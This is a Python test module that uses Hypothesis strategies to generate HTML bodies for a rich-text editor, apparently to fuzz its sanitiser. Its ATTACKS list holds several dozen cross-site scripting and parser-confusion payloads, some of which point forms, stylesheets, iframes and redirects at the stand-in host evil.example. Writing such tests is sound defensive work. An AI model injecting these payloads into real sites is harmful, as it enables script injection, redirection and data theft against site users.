"""Bodies for tests: all that the editor has a word for, in any order, and what an attacker sends instead."""

from html import escape

from hypothesis import strategies as st

TEXTS = st.text(
    st.sampled_from("ab é œ’«»\u00a0\u202f<>&\"'=/;: 1\U0001f600"), min_size=1, max_size=8
).map(lambda text: escape(text, quote=False))
HREFS = st.sampled_from(
    ["https://cnil.fr/?a=1&amp;b=2", "/securite/x/", "mailto:a@b.fr", "tel:+331", "#x"]
)


def wrapped(tag: str, inside):
    return inside.map(lambda html: f"<{tag}>{html}</{tag}>")


def marked(inside):
    marks = [wrapped(tag, inside) for tag in ("strong", "em", "s", "sub", "sup", "code")]
    link = st.tuples(HREFS, inside).map(lambda pair: f'<a href="{pair[0]}">{pair[1]}</a>')
    return st.one_of(*marks, link, st.tuples(inside, inside).map("".join))


LINES = st.recursive(TEXTS | st.just("<br>"), marked, max_leaves=6)
PARAGRAPHS = wrapped("p", LINES | st.just(""))
IDS = st.integers(1, 10**18 - 1)


def many(strategy, least=1, most=3):
    return st.lists(strategy, min_size=least, max_size=most).map("".join)


def lists_of(items):
    item = wrapped("li", st.tuples(PARAGRAPHS, items | st.just("")).map("".join))
    start = st.sampled_from(["<ul>", "<ol>", '<ol start="7">'])
    return st.tuples(start, many(item)).map(lambda p: f"{p[0]}{p[1]}</{p[0][1:3]}>")


LISTS = st.recursive(lists_of(st.just("")), lists_of, max_leaves=3)
CAPTIONS = st.just("") | wrapped("figcaption", LINES)
PICTURES = st.tuples(IDS, CAPTIONS).map(
    lambda p: f'<figure data-block="image" data-id="{p[0]}">{p[1]}</figure>'
)
EMBEDS = st.tuples(
    st.sampled_from(
        [
            "https://www.youtube.com/watch?v=dQw4w9WgXcQ&amp;t=90",
            "https://piaille.fr/@octet/1234567",
        ]
    ),
    CAPTIONS,
).map(lambda p: f'<figure data-block="embed" data-url="{p[0]}">{p[1]}</figure>')
CARDS = st.tuples(st.sampled_from(["product", "promo", "read-also"]), IDS).map(
    lambda p: f'<div data-block="{p[0]}" data-id="{p[1]}"></div>'
)


def cell(tag: str):
    spans = st.sampled_from(["", "", "", ' colspan="2"', ' rowspan="2"'])
    return st.tuples(spans, many(PARAGRAPHS)).map(lambda p: f"<{tag}{p[0]}>{p[1]}</{tag}>")


ROWS = wrapped("tr", many(cell("td") | cell("th")))
TABLES = st.tuples(many(ROWS), CAPTIONS).map(
    lambda p: f'<figure data-block="table"><table><tbody>{p[0]}</tbody></table>{p[1]}</figure>'
)
QUOTES = st.tuples(st.sampled_from(["quote", "pull-quote"]), many(PARAGRAPHS), CAPTIONS).map(
    lambda p: f'<figure data-block="{p[0]}"><blockquote>{p[1]}</blockquote>{p[2]}</figure>'
)
BOXES = st.tuples(wrapped("h3", LINES) | st.just(""), many(PARAGRAPHS | LISTS)).map(
    lambda p: f'<aside data-block="fact-box">{p[0]}{p[1]}</aside>'
)
GALLERIES = many(PICTURES).map(lambda html: f'<figure data-block="gallery">{html}</figure>')
HEADINGS = wrapped("h2", LINES) | wrapped("h3", LINES)
QUOTATIONS = wrapped("blockquote", many(PARAGRAPHS | LISTS))
BLOCKS = st.one_of(
    PARAGRAPHS,
    HEADINGS,
    LISTS,
    QUOTATIONS,
    st.just("<hr>"),
    PICTURES,
    EMBEDS,
    CARDS,
    TABLES,
    QUOTES,
    BOXES,
    GALLERIES,
)
DOCUMENTS = many(BLOCKS, most=6)

# Of the kind that has got through sanitisers: parsers that see one thing and browsers another.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt\x00>alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="--!><img src=x onerror=alert(1)>"><!--',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href=" &#x6A;avascript&colon;alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<a href="vbscript:x">a</a>',
    '<a href="//evil.example" target=_blank onclick=alert(1) ping=//evil.example>b</a>',
    '<form action="//evil.example"><form><input name=q>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<p style="position:fixed;background:url(//evil.example)" class="masthead" id="content">x</p>',
    "<style>@import url(//evil.example);*{display:none}</style>",
    '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example>",
    '<iframe src="//evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    '<figure data-block="image" data-id="1&quot; onload=&quot;alert(1)"></figure>',
    '<figure data-block="image" data-id="99999999999999999999999"></figure>',
    '<div data-block="image" data-id="1"></div><aside data-block="table">x</aside>',
    '<figure data-block="embed" data-url="javascript:alert(1)//youtu.be/dQw4w9WgXcQ"></figure>',
    '<figure data-block="embed" data-url="https://youtu.be/dQw4w9WgXcQ&quot; onload=x"></figure>',
    '<figure data-block="embed" data-url="https://evil.example/@a/123456/../../x"></figure>',
    '<figure class="embed embed-video" data-frame="https://evil.example/x"><a>x</a></figure>',
    '<figure data-block="gallery"><figure data-block="gallery"><figure data-block="embed">y</figure>',
    "<table><tbody><tr><td background=x onclick=alert(1)><table><caption><svg onload=alert(1)>",
    "<b><i><u><s><center><marquee onstart=alert(1)>x",
    '<p data-frame="https://evil.example/" data-foreign="1" data-pm-slice="x" contenteditable>x</p>',
    "<h1 onmouseover=alert(1)>x</h1><button popovertarget=x>x</button><div popover id=x>x</div>",
    "</div></article></main></body></html><script>alert(1)</script>",
]
SOUP = st.lists(
    st.sampled_from(ATTACKS)
    | DOCUMENTS
    | TEXTS
    | st.sampled_from(
        """<table> </table> <tr> <td> <figure> </figure> <a> </a> <p> </p> <li> <em> </em> <svg> </svg> <math>
        <style> </style> <select> <h2> <!-- --> <aside> <figcaption>""".split()
    ),
    max_size=6,
).map("".join)
